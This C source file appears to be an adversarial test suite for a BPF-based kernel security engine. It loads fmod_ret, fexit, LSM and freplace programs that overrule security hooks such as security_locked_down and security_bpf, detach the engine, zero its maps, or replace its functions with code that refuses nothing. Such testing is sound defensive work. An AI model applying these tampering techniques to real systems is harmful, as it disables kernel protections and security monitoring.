// SPDX-License-Identifier: GPL-2.0-only
/* Overrule it: BPF programs that change the answer of the kernel functions the engine stands on. */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "../vm/attempt/attempts.h"
#include "attacks.h"
#include "escape.h"
#include "tools.h"

/* What a program can do to a guarded function, named as in BPF's section names. */
enum kind { FMOD_RET, FEXIT, LSM, LSM_CGROUP };

static const char *const guarded[] = {"locked_down", "bpf", "bpf_map", "bpf_prog"};

static int load_overruler(enum kind kind, const char *hook, int answer)
{
	char function[64];

	snprintf(function, sizeof(function), "%s_%s", kind == LSM ? "bpf_lsm" : "security", hook);
	switch (kind) {
	case FMOD_RET: return load_returning(BPF_PROG_TYPE_TRACING, BPF_MODIFY_RETURN, function, answer);
	case FEXIT: return load_returning(BPF_PROG_TYPE_TRACING, BPF_TRACE_FEXIT, function, answer);
	case LSM: return load_returning(BPF_PROG_TYPE_LSM, BPF_LSM_MAC, function, answer);
	default: return load_setting(hook, answer);
	}
}

/* Attached as long as what it returns is open: closing needs no bpf(2), which may answer nobody meanwhile. */
static int begin_overruling(enum kind kind, int program)
{
	int link;

	if (!step(program >= 0, "PROG_LOAD"))
		return -1;
	link = kind == LSM_CGROUP ? link_to_cgroup(program, root_cgroup(), BPF_LSM_CGROUP) : trace_attach(program);
	step(link >= 0, kind == LSM_CGROUP ? "LINK_CREATE" : "RAW_TRACEPOINT_OPEN");
	return link;
}

static struct outcome take_off(void)
{
	return detach_all(root_cgroup()) ? verdict() : no_engine();
}

/* With a guard overruled, @then is what it guarded against. */
static struct outcome overrule(enum kind kind, int program, struct outcome (*then)(void))
{
	const int link = begin_overruling(kind, program);
	const struct outcome outcome = link < 0 ? verdict() : then();

	if (link >= 0)
		close(link);
	return outcome;
}

static struct outcome overrule_held(enum kind kind, enum held which, struct outcome (*then)(void))
{
	const int program = held(which);

	return program < 0 ? not_held(which) : overrule(kind, program, then);
}

/* One after the other, on every guarded function. */
static struct outcome overrule_each(enum kind kind, int answer)
{
	struct outcome outcome = broken("nothing is guarded");

	for (size_t i = 0; i < ARRAY_SIZE(guarded); i++) {
		outcome = overrule(kind, load_overruler(kind, guarded[i], answer), verdict);
		if (outcome.result == RESULT_DONE)
			break;
	}
	return outcome;
}

#define OVERRULE(name, kind, hook, answer, then)                                      \
	struct outcome attack_##name(void)                                            \
	{                                                                             \
		return overrule(kind, load_overruler(kind, hook, answer), then);      \
	}
#define OVERRULE_EACH(name, kind, answer)             \
	struct outcome attack_##name(void)            \
	{                                             \
		return overrule_each(kind, answer);   \
	}
#define OVERRULE_HELD(name, kind, which, then)                \
	struct outcome attack_##name(void)                    \
	{                                                     \
		return overrule_held(kind, which, then);      \
	}

OVERRULE(fmod_1, FMOD_RET, "locked_down", 1, verdict)
OVERRULE(fmod_bpf, FMOD_RET, "bpf", 1, take_off)
OVERRULE(fmod_bpf_map, FMOD_RET, "bpf_map", 1, attack_map_zero)
OVERRULE(fmod_bpf_prog, FMOD_RET, "bpf_prog", 1, take_off)
OVERRULE_EACH(fmod_0, FMOD_RET, 0)
OVERRULE_EACH(fmod_minus, FMOD_RET, -1)
OVERRULE_HELD(fmod_held, FMOD_RET, HELD_FMOD, verdict)
OVERRULE_HELD(fmod_bpf_held, FMOD_RET, HELD_FMOD_BPF, take_off)
OVERRULE_HELD(fmod_bpf_map_held, FMOD_RET, HELD_FMOD_BPF_MAP, attack_map_zero)
OVERRULE_HELD(fmod_bpf_prog_held, FMOD_RET, HELD_FMOD_BPF_PROG, take_off)
OVERRULE_EACH(fexit_1, FEXIT, 1)
OVERRULE_EACH(fexit_0, FEXIT, 0)
OVERRULE_EACH(fexit_minus, FEXIT, -1)
OVERRULE(lsm_1, LSM, "locked_down", 1, verdict)
OVERRULE(lsm_bpf, LSM, "bpf", 1, take_off)
OVERRULE(lsm_bpf_map, LSM, "bpf_map", 1, attack_map_zero)
OVERRULE(lsm_bpf_prog, LSM, "bpf_prog", 1, take_off)
OVERRULE_EACH(lsm_0, LSM, 0)
OVERRULE_EACH(lsm_minus, LSM, -1)
OVERRULE_HELD(lsm_held, LSM, HELD_LSM, verdict)
OVERRULE_HELD(lsm_bpf_held, LSM, HELD_LSM_BPF, take_off)
OVERRULE(lsm_cgroup_1, LSM_CGROUP, "locked_down", 1, verdict)
OVERRULE(lsm_cgroup_bpf_map, LSM_CGROUP, "bpf_map", 0, attack_map_zero)
OVERRULE(lsm_cgroup_bpf_prog, LSM_CGROUP, "bpf_prog", 0, take_off)
OVERRULE_EACH(lsm_cgroup_minus, LSM_CGROUP, -1)
OVERRULE_HELD(lsm_cgroup_bpf_map_held, LSM_CGROUP, HELD_ALLOW_BPF_MAP, attack_map_zero)

struct outcome attack_fmod_held_link(void)
{
	const int program = held(HELD_FMOD);

	if (program < 0)
		return not_held(HELD_FMOD);
	step(link_to_cgroup(program, 0, BPF_MODIFY_RETURN) >= 0, "LINK_CREATE");
	return verdict();
}

/* In place of the engine's function @target: refuse nothing. */
static int load_replacement(const struct engine_program *target, int program)
{
	const struct bpf_insn code[] = {SET(BPF_REG_0, 1), EXIT()};
	union bpf_attr attr = {
		.prog_type = BPF_PROG_TYPE_EXT,
		.insns = (uintptr_t)code,
		.insn_cnt = ARRAY_SIZE(code),
		.license = (uintptr_t)"GPL",
		.attach_btf_id = target->function,
		.attach_prog_fd = program,
	};

	return bpf(BPF_PROG_LOAD, &attr);
}

/* First a program of its own whose function is global: that one must be replaced where nothing guards. */
struct outcome attack_freplace(void)
{
	struct engine_program programs[MOST_PROGRAMS];
	unsigned count = engine_programs(programs);
	const struct outcome control = try_bpf_replace();

	if (!count)
		return no_engine();
	if (control.result == RESULT_BROKEN)
		return control;
	step(control.result == RESULT_DONE, "the same with a program of our own");
	while (count--) {
		const int target = program_by_id(programs[count].id), replacement = load_replacement(&programs[count], target);

		if (step(replacement >= 0, "PROG_LOAD of the replacement"))
			step(trace_attach(replacement) >= 0, "RAW_TRACEPOINT_OPEN of the replacement");
	}
	return verdict();
}
